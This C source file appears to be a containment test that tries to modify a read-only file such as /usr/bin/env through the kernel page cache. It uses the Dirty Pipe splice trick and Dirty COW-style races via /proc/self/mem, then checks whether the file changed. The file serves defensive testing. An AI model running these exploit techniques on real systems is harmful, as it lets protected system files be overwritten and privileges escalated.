/*
 * attack_page_cache.c - changes a file that can only be read, in the pages that
 * the kernel keeps of it: through a pipe (CVE-2022-0847), by writing to its own
 * memory (CVE-2016-5195, CVE-2022-2590), through a mapping made writable, through
 * a splice that is undone. Then the file is read by another way.
 */
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/uio.h>

#include "attack.h"

enum { SIZE = 4096, ROUNDS = 20000 };

static char before[SIZE], after[SIZE];
static char *map;
static volatile bool over;

static void read_file(const char *path, char *into)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || pread(fd, into, SIZE, 0) != SIZE)
		_exit(1);
	(void)close(fd);
}

/* Every buffer of the pipe is left with the flag that lets a write append to it. */
static void through_a_pipe(int fd)
{
	static char junk[SIZE];
	loff_t offset = 1;
	int ends[2], size;

	if (pipe(ends) < 0)
		_exit(1);
	size = fcntl(ends[1], F_GETPIPE_SZ);
	for (int n = 0; n < size; n += SIZE)
		if (write(ends[1], junk, SIZE) != SIZE)
			_exit(1);
	for (int n = 0; n < size; n += SIZE)
		if (read(ends[0], junk, SIZE) != SIZE)
			_exit(1);
	if (splice(fd, &offset, ends[1], NULL, 1, 0) == 1)
		(void)!write(ends[1], "XXXX", 4);
	(void)close(ends[0]);
	(void)close(ends[1]);
}

static void *drop_pages(void *unused)
{
	(void)unused;
	while (!over)
		(void)madvise(map, SIZE, MADV_DONTNEED);
	return NULL;
}

/* The write is to be made to a copy; the other thread throws the copy away. */
static void through_memory(void)
{
	int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	struct iovec here = {(void *)(uintptr_t) "XXXX", 4}, there = {map, 4};
	pthread_t thread;

	if (pthread_create(&thread, NULL, drop_pages, NULL) != 0)
		_exit(1);
	for (int i = 0; i < ROUNDS; i++) {
		if (mem >= 0)
			(void)!pwrite(mem, "XXXX", 4, (off_t)(uintptr_t)map);
		(void)process_vm_writev(getpid(), &here, 1, &there, 1, 0);
	}
	over = true;
	(void)pthread_join(thread, NULL);
}

int main(int argc, char **argv)
{
	const char *path = argc > 1 ? argv[1] : "/usr/bin/env";
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return 1;
	read_file(path, before);
	map = mmap(NULL, SIZE, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED)
		return 1;
	through_a_pipe(fd);
	through_memory();
	must_fail("a shared mapping",
		  (long)mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
	must_not_open(path, O_RDWR);
	(void)posix_fadvise(fd, 0, SIZE, POSIX_FADV_DONTNEED);
	read_file(path, after);
	if (memcmp(before, after, SIZE) != 0)
		escaped("'%s' was changed", path);
	contained();
}
